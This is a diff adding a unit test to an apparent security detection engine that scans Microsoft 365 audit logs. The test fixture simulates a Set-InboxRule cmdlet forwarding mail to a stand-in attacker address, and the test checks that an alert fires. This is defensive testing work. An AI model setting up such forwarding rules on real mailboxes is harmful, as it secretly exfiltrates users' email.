@@ -60,6 +60,11 @@ describe('the detection pack in the engine', () => {
     const { decoded, alerts } = analyse([{ name: 'a.jsonl', bytes: encode(write.managementApiLines([signIn(1), forwarding, owaRead])) }], detections);
     expect(decoded.map((t) => JSON.parse(t).Id)).toEqual(['sign-in-1', 'owa-1']);
     expect(alerts).toEqual([]);
+    // The analytic's own spelling, set-InboxRule, still finds Set-InboxRule in the bytes.
+    const setRule = cmdlet('Set-InboxRule', { Identity: 'r', ForwardTo: 'x@evil.example' }, { Id: 'set-1' });
+    const second = analyse([{ name: 'b.jsonl', bytes: encode(write.managementApiLines([signIn(1), setRule])) }], detections);
+    expect(second.decoded.map((t) => JSON.parse(t).Id)).toEqual(['sign-in-1', 'set-1']);
+    expect(second.alerts.map((a) => a.fields.ForwardTo)).toEqual(['x@evil.example']);
   });
 
   test('the same records as JSON lines and as Purview CSV count once', () => {
